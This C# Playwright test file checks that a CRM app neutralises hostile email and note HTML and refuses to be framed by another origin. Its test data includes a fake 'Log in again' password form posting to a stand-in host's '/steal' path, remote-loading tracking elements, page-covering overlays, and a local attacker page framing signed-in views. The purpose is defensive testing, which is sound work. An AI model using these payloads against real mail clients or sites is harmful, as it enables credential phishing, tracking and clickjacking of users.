using DealToLead.Core.Crm;
using DealToLead.Infrastructure.Seeding;
using DealToLead.IntegrationTests.Infrastructure;
using Microsoft.Playwright;

namespace DealToLead.BrowserTests.Reliability;

/// <summary>
/// Email and note HTML that tries to reach out (remote images, CSS url(), forms posting elsewhere) or to cover the
/// page (fixed overlays, negative margins) does neither on any page that shows it.
/// </summary>
public class HostileHtmlBrowserTests(BrowserApp app) : BrowserTest(app)
{
    private const string Remote = "http://remote.test:57999";

    private const string Hostile =
        "<p>Hostile body</p>"
        + $"<img src=\"{Remote}/img.png\"><img srcset=\"{Remote}/srcset.png 2x\">"
        + $"<div style=\"background: url({Remote}/background.png)\">bg</div>"
        + $"<div style=\"background-image: url('{Remote}/background-image.png')\">bgi</div>"
        + $"<ul style=\"list-style-image: url({Remote}/list.png)\"><li>item</li></ul>"
        + $"<p style=\"border: 10px solid; border-image: url({Remote}/border.png) 30 round\">border</p>"
        + $"<p style=\"cursor: url({Remote}/cursor.cur), auto\">cursor</p>"
        + $"<table background=\"{Remote}/table.png\"><tr><td background=\"{Remote}/td.png\">cell</td></tr></table>"
        + $"<input type=\"image\" src=\"{Remote}/input.png\">"
        + $"<form action=\"{Remote}/steal\" method=\"post\"><label>Password <input type=\"password\" name=\"pw\" value=\"\"></label><button type=\"submit\">Log in again</button></form>"
        + $"<video poster=\"{Remote}/poster.png\" src=\"{Remote}/video.mp4\" autoplay></video><audio src=\"{Remote}/audio.mp3\" autoplay></audio>"
        + $"<svg><image href=\"{Remote}/svg.png\"></image></svg><object data=\"{Remote}/object\"></object><embed src=\"{Remote}/embed\">"
        + $"<link rel=\"stylesheet\" href=\"{Remote}/style.css\"><style>@import url({Remote}/import.css); body {{ background: url({Remote}/body.png) }}</style>"
        + $"<iframe src=\"{Remote}/frame\"></iframe><meta http-equiv=\"refresh\" content=\"0;url={Remote}/refresh\"><base href=\"{Remote}/\">"
        + "<div style=\"position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999; background: rgba(255, 255, 255, 0.01)\">fixed overlay</div>"
        + "<div style=\"position: absolute; inset: 0; z-index: 99999\">absolute overlay</div>"
        + "<div style=\"margin-top: -3000px; height: 6000px; background-color: rgba(255, 255, 255, 0.01)\">margin overlay</div>"
        + "<div style=\"transform: translate(-50%, -50%) scale(40)\">transformed</div>";

    [Fact]
    public Task Hostile_email_and_note_html_loads_nothing_remote_posts_nothing_and_covers_no_button() =>
        RunAsync(nameof(Hostile_email_and_note_html_loads_nothing_remote_posts_nothing_and_covers_no_button), async page =>
        {
            var repId = await App.UserIdAsync(DemoUsers.Rep);
            var deal = await App.WithDbAsync(new DealBuilder(repId).Titled("Hostile deal").WithWorld(upcoming: 1, done: 0, notes: 0, emails: 0).BuildAsync);
            var converted = await App.WithDbAsync(new DealBuilder(repId).Titled("Hostile lead").WithWorld(upcoming: 1, done: 0, notes: 0, emails: 0).BuildAsync);
            await App.WithDbAsync(async db =>
            {
                foreach (var id in new[] { deal.Id, converted.Id })
                {
                    db.Notes.Add(new Note { Content = Hostile.Replace("Hostile body", "Hostile note"), AuthorId = repId, DealId = id });
                    db.Emails.Add(new EmailMessage { From = "x@example.com", Subject = "Hostile mail", HtmlBody = Hostile, SentAt = DateTimeOffset.UtcNow, DealId = id });
                }

                await db.SaveChangesAsync();
            });
            var lead = (await App.WithDbAsync(async db =>
            {
                var access = (await Core.Users.UserAccess.LoadAsync(db, repId))!;
                return await new Core.Conversions.DealConversionService(db, TimeProvider.System).ConvertDealToLeadAsync(access, converted.Id);
            }))!.LeadId!.Value;

            var origin = new Uri(App.BaseUrl).GetLeftPart(UriPartial.Authority);
            var foreign = new List<string>();
            var posts = new List<string>();
            await page.Context.RouteAsync("**/*", async route =>
            {
                if (route.Request.Url.StartsWith(origin, StringComparison.Ordinal))
                {
                    await route.ContinueAsync();
                    return;
                }

                lock (foreign)
                {
                    foreign.Add(route.Request.Url);
                }

                await route.FulfillAsync(new() { Status = 204 });
            });
            await SignInAsync(page, DemoUsers.Rep);
            page.Context.Request += (_, request) =>
            {
                if (request.Method != "GET")
                {
                    lock (posts)
                    {
                        posts.Add($"{request.Method} {request.Url}");
                    }
                }
            };

            foreach (var url in new[] { $"/deals/{deal.Id}", $"/leads/{lead}", $"/leads?selected={lead}" })
            {
                await page.GotoAsync(url);
                await page.EvaluateAsync("() => document.querySelectorAll('details').forEach(d => d.open = true)");
                var frame = page.Locator("iframe.email-frame").First.ContentFrame;
                await Assertions.Expect(frame.GetByText("Hostile body")).ToBeVisibleAsync();
                await Assertions.Expect(page.GetByText("Hostile note").First).ToBeVisibleAsync();
                await page.WaitForLoadStateAsync(LoadState.NetworkIdle);
                await page.WaitForTimeoutAsync(300);

                foreach (var child in page.Frames)
                {
                    (await child.EvaluateAsync<int>("() => document.querySelectorAll('form[action^=\"http://remote\"], input[type=password], input[type=image]').length"))
                        .Should().Be(0, $"no form of the email or note survives on {url} ({child.Url})");
                }

                var covered = await page.EvaluateAsync<string[]>("""
                    () => [...document.querySelectorAll('button, summary, a.button, [role=button], input[type=submit]')]
                        .filter(b => b.getClientRects().length > 0 && getComputedStyle(b).visibility !== 'hidden')
                        .map(b => {
                            b.scrollIntoView({ block: 'center', inline: 'center' });
                            const r = b.getBoundingClientRect();
                            const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
                            return hit && (hit === b || b.contains(hit)) ? null : `${b.textContent.trim()} is covered by ${hit ? hit.outerHTML.slice(0, 120) : 'nothing'}`;
                        })
                        .filter(x => x)
                    """);
                covered.Should().BeEmpty($"every button on {url} stays clickable");
                (await page.EvaluateAsync<int>("() => document.querySelectorAll('button').length")).Should().BeGreaterThan(3);
            }

            foreign.Should().BeEmpty("rendering stored email and note HTML must not contact any other origin");
            posts.Should().BeEmpty("nothing on these pages posts by itself");

            // Remote images only when the reader asks, for that one email.
            await page.GotoAsync($"/deals/{deal.Id}");
            await page.EvaluateAsync("() => document.querySelectorAll('details').forEach(d => d.open = true)");
            await page.GetByTestId("show-remote-images").First.ClickAsync();
            await Assertions.Expect(page.Locator("iframe.email-frame").First.ContentFrame.GetByText("Hostile body")).ToBeVisibleAsync();
            await page.WaitForLoadStateAsync(LoadState.NetworkIdle);
            await page.WaitForTimeoutAsync(300);
            lock (foreign)
            {
                foreign.Should().Contain($"{Remote}/img.png").And.OnlyContain(u => u.EndsWith("/img.png", StringComparison.Ordinal) || u.EndsWith("/srcset.png", StringComparison.Ordinal),
                    "only the email's images load, nothing its CSS or forms name");
            }

            page.Url.Should().EndWith($"/deals/{deal.Id}", "the frame navigated, not the page");
        });

    [Fact]
    public Task A_page_of_another_origin_cannot_frame_a_signed_in_page() =>
        RunAsync(nameof(A_page_of_another_origin_cannot_frame_a_signed_in_page), async page =>
        {
            var repId = await App.UserIdAsync(DemoUsers.Rep);
            var deal = await App.WithDbAsync(new DealBuilder(repId).Titled("Framed deal").WithWorld(upcoming: 0, done: 0, notes: 0, emails: 0).BuildAsync);
            await SignInAsync(page, DemoUsers.Rep);
            string[] framed = ["/pipeline", "/deals", "/leads", "/persons", $"/deals/{deal.Id}", "/settings/profile"];
            // A real server on another port of the app's host: same site, so the browser sends the sign-in cookie,
            // and a local address, so Chromium's private network rules let its frames reach the app.
            using var attacker = AttackerPage(string.Concat(framed.Select(path => $"<iframe src=\"{App.BaseUrl}{path}\" width=\"400\" height=\"300\"></iframe>")));
            var answered = new List<string>();
            page.Response += (_, response) =>
            {
                if (response.Request.ResourceType == "document" && response.Url.StartsWith(App.BaseUrl, StringComparison.Ordinal) && response.Status == 200)
                {
                    lock (answered)
                    {
                        answered.Add(new Uri(response.Url).PathAndQuery);
                    }
                }
            };

            await page.GotoAsync(attacker.Prefixes.Single());
            await page.WaitForLoadStateAsync(LoadState.NetworkIdle);

            answered.Should().BeEquivalentTo(framed, "the app answered each framed page, signed in");
            for (var i = 0; i < framed.Length; i++)
            {
                var frame = page.Locator("iframe").Nth(i).ContentFrame;
                (await frame.GetByTestId("signed-in-user").CountAsync()).Should().Be(0, $"{framed[i]} must not render inside another origin's page");
            }
        });

    private static System.Net.HttpListener AttackerPage(string html)
    {
        for (var port = 57100; ; port++)
        {
            var listener = new System.Net.HttpListener();
            listener.Prefixes.Add($"http://127.0.0.1:{port}/");
            try
            {
                listener.Start();
            }
            catch (System.Net.HttpListenerException) when (port < 57999)
            {
                listener.Close();
                continue;
            }

            _ = Task.Run(async () =>
            {
                while (listener.IsListening)
                {
                    var context = await listener.GetContextAsync();
                    var body = System.Text.Encoding.UTF8.GetBytes($"<!doctype html><html><body>{html}</body></html>");
                    context.Response.ContentType = "text/html; charset=utf-8";
                    await context.Response.OutputStream.WriteAsync(body);
                    context.Response.Close();
                }
            });
            return listener;
        }
    }
}
